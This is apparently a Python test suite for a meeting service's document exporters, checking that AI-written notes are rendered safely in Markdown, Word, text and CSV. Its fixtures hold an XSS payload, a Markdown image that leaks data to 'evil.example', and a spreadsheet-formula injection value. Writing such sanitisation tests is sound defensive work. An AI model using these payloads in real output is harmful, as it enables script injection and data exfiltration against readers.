"""Tests serve/http/exports: documents with notes and insights, ZIP archives, and what models write into them."""

from __future__ import annotations

import csv
from dataclasses import replace
from datetime import UTC, datetime
from io import BytesIO, StringIO
from typing import Any
from uuid import uuid4
from zipfile import ZipFile

import docx
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from operators.errors import InvalidInputError
from operators.translation_requests import CaptionStatus
from serve.http.exports.document import Document, ModelText, Section, Turn
from serve.http.exports.markdown import write_markdown
from serve.http.exports.model_text import TextBlock, parse_model_text
from serve.http.exports.renderer import render_export
from serve.http.exports.transcript import ExportFormat, select_export, select_parts
from serve.http.exports.word import write_word
from storage.insights.insight_records import InsightRecord
from storage.notes.note_records import Note
from tests.unit.serve.http.exports.test_export_formats import MONDAY, make_caption, make_meeting

NOW = datetime(2026, 5, 4, 10, 0, tzinfo=UTC)
HOSTILE = "<img src=x onerror=alert(1)>\n![a](http://evil.example/?leak)\n\n- one\n  - two\n\n```\nnever closed"


def make_note(text: str | None, start: float = 0.0, **changes: Any) -> Note:
    fields = Note(
        id=uuid4(),
        kind="auto",
        status="ready" if text else "pending",
        revision=1,
        text=text,
        language="en",
        task="",
        engine="vllm 1",
        finish=None,
        reason=None,
        pinned=False,
        edited=False,
        outdated=False,
        start=start,
        end=start + 60,
        sentences=("0.0",),
    )
    return fields.model_copy(update=changes)


def make_insight(template: str, **changes: Any) -> InsightRecord:
    insight = InsightRecord(
        id=uuid4(),
        meeting_id=uuid4(),
        template=template,
        template_version=1,
        language="en",
        instructions="",
        number=1,
        status="ready",
        text=None,
        rows=None,
        dropped_rows=0,
        dropped_sentences=0,
        transcript_seq=9,
        engine="vllm 1",
        prompt_version=1,
        prompt_tokens=1,
        completion_tokens=1,
        part_count=1,
        finish=None,
        reason=None,
        created_at=NOW,
        finished_at=NOW,
    )
    return insight.model_copy(update=changes)


ACTIONS = [
    {"task": "=HYPERLINK(1)", "owner": "Ann | Bob", "due": None, "sentences": ["0.0", "4.0"]},
    {"task": "Call", "owner": None, "due": "Monday", "sentences": ["9.9"]},
]
NOTED = replace(
    MONDAY,
    notes=[
        make_note("# Start\nBudget *small*.", pinned=True, outdated=True),
        make_note(HOSTILE, 60.0),
        make_note(None, 120.0),
    ],
    insights=[
        make_insight("meeting_summary", text="The budget is small.", finish="length"),
        make_insight("meeting_summary", text="An older summary."),
        make_insight("action_items", rows=ACTIONS, dropped_rows=2),
        make_insight("key_decisions", status="failed", reason="no engine answers", finished_at=None),
    ],
)


def export(form: ExportFormat) -> bytes:
    return render_export(NOTED, select_export(NOTED, form, None, None))


def test_markdown_has_insights_notes_and_then_the_transcript() -> None:
    page = export("md").decode()
    assert [line for line in page.splitlines() if line.startswith("#")] == [
        "# Monday",
        "## Insights",
        "### Action items (en)",
        "### Key decisions (en)",
        "### Meeting summary (en)",
        "## Notes",
        "### 00:00:00 to 00:01:00",
        "### 00:01:00 to 00:02:00",
        "## Transcript",
    ]
    assert "| =HYPERLINK(1) | Ann \\| Bob |  | 00:00:00, 00:04:00 |\n| Call |  | Monday | retracted |" in page
    assert "*written 2026-05-04 10:00 UTC by vllm 1; 2 without evidence left out*" in page
    assert "*could not be written: no engine answers*" in page
    assert "by vllm 1; cut off*\n\nThe budget is small." in page
    assert "An older summary" not in page
    assert "*pinned; a sentence changed since*\n\n**Start**\n\nBudget small." in page
    assert "*1 more could not be written, or are not written yet.*" in page
    assert page.count("**Ann** [00:00:00]\n\nGood morning. Bom dia.\n\n> Bom dia a todos. Bom dia.") == 1


def test_plain_text_has_a_line_for_each_turn_and_row() -> None:
    page = export("txt").decode()
    assert page.startswith("Monday\n\nDate: 2026-05-04 09:00 UTC\nDuration: 00:05:01\nParticipants: Ann, Bob\n")
    assert "- Task: =HYPERLINK(1); Owner: Ann | Bob; Sentences: 00:00:00, 00:04:00\n" in page
    assert "\nTRANSCRIPT\n\n[00:00:00] Ann: Good morning. Bom dia.\n    Bom dia a todos. Bom dia.\n" in page


def test_word_opens_the_document() -> None:
    word = docx.Document(BytesIO(export("docx")))
    paragraphs = [(paragraph.style and paragraph.style.name, paragraph.text) for paragraph in word.paragraphs]
    assert paragraphs[0] == ("Title", "Monday")
    assert ("Heading 1", "Transcript") in paragraphs
    assert ("List Bullet 2", "two") in paragraphs
    turn = paragraphs.index(("Normal", "Ann [00:00:00] Good morning. Bom dia."))
    assert paragraphs[turn + 1] == ("Quote", "Bom dia a todos. Bom dia.")
    assert [[cell.text for cell in row.cells] for row in word.tables[0].rows] == [
        ["Task", "Owner", "Due", "Sentences"],
        ["=HYPERLINK(1)", "Ann | Bob", "", "00:00:00, 00:04:00"],
        ["Call", "", "Monday", "retracted"],
    ]
    assert word.core_properties.title == "Monday"


def test_a_zip_has_each_format_and_language() -> None:
    japanese = make_caption(0, CaptionStatus.TRANSLATED, "おはよう。", language="ja")
    several = replace(NOTED, meeting=make_meeting("pt", "ja", title="Team: 1"), captions=[*MONDAY.captions, japanese])
    with ZipFile(BytesIO(render_export(several, select_export(several, "zip", None, None)))) as archive:
        assert archive.testzip() is None
        assert sorted(archive.namelist()) == sorted(
            [
                "Team 1.jsonl",
                "Team 1.action_items.en.csv",
                *(
                    f"Team 1.{language}.{form}"
                    for language in ("pt", "ja")
                    for form in ("vtt", "srt", "md", "txt", "docx")
                ),
            ]
        )
        assert "おはよう。" in archive.read("Team 1.ja.srt").decode()
        rows = list(csv.reader(StringIO(archive.read("Team 1.action_items.en.csv").decode("utf-8-sig"), newline="")))
    assert rows[1] == ["'=HYPERLINK(1)", "Ann | Bob", "", "00:00:00, 00:04:00"]
    for selection, ending in (
        (select_export(several, "zip", "source", None), ""),
        (select_export(several, "zip", "both", "pt"), ".pt"),
    ):
        with ZipFile(BytesIO(render_export(several, selection))) as archive:
            assert {f"Team 1{ending}.{form}" for form in ("jsonl", "vtt", "docx")} <= set(archive.namelist())
            assert not any(".ja." in name for name in archive.namelist())


def test_parts_go_with_documents() -> None:
    assert select_parts("zip", None) == {"notes", "insights"}
    assert select_parts("md", None) == select_parts("vtt", None) == select_parts("zip", []) == frozenset()
    assert select_parts("docx", ["notes"]) == {"notes"}
    with pytest.raises(InvalidInputError) as caught:
        select_parts("vtt", ["notes"])
    assert str(caught.value) == "include: must be left out where the format is vtt: it goes with md, txt, docx or zip"


def test_a_models_text_becomes_plain_blocks() -> None:
    assert parse_model_text(HOSTILE) == (
        TextBlock("paragraph", "<img src=x onerror=alert(1)> a (http://evil.example/?leak)"),
        TextBlock("item", "one", 1),
        TextBlock("item", "two", 2),
        TextBlock("paragraph", "never closed"),
    )
    assert parse_model_text("# A\n1. b\n\n   c\n2. [d](http://x.example)") == (
        TextBlock("heading", "A"),
        TextBlock("item", "b c", 1),
        TextBlock("item", "d (http://x.example)", 1),
    )


@given(
    st.lists(
        st.sampled_from([*"<>![]()`~#-*_|\n\\ 1.", "](http://e.example)", "```", "a"]) | st.text(max_size=4),
        max_size=40,
    )
)
@example(["- ", "\n", "```", "a"])
@example(["\\", "![a](http://e.example)"])
def test_a_models_text_can_do_nothing_in_markdown(pieces: list[str]) -> None:
    blocks = parse_model_text("".join(pieces))
    document = Document(
        "T",
        (),
        (
            Section("Notes", (ModelText("H", (), blocks),)),
            Section("Transcript", (Turn("Ann", "00:00:00", "Kept.", ""),)),
        ),
    )
    tokens = MarkdownIt("commonmark").enable("table").parse(write_markdown(document))
    kinds = {child.type for token in tokens for child in token.children or []}
    assert kinds <= {"text", "text_special", "strong_open", "strong_close", "softbreak"}
    assert {token.type for token in tokens} & {"html_block", "fence", "code_block", "hr", "blockquote_open"} == set()
    assert [token.content for token in tokens if token.type == "inline"][-2:] == ["**Ann** [00:00:00]", "Kept."]


@given(st.text(st.characters(codec="utf-8"), max_size=20))
@example("\x00\x0b\x1b\ufffe\r\n_x001B_")
def test_word_holds_any_text(text: str) -> None:
    turn = Turn("Ann", "00:00:00", text, text)
    word = docx.Document(BytesIO(write_word(Document(text, ((text, text),), (Section("", (turn,)),)))))
    assert word.paragraphs[2].text.startswith("Ann [00:00:00] ")
